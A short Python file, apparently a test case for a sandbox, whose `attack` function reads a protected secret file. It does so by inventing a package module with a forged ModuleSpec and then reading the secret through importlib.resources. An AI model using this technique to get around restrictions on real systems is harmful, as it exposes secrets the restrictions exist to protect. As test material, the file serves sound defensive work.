"""Asks `importlib.resources` for a resource of a package that it makes up."""

import importlib.machinery
import importlib.readers
import importlib.resources
import importlib.resources.readers
import types


def attack(A):
    folder, _, name = TARGET["secret"].rpartition("/")
    module = types.ModuleType("pretended")
    loader = importlib.machinery.SourceFileLoader("pretended", f"{folder}/__init__.py")
    module.__spec__ = importlib.machinery.ModuleSpec("pretended", loader, is_package=True)
    module.__spec__.submodule_search_locations.append(folder)
    return importlib.resources.files(module).joinpath(name).read_text()
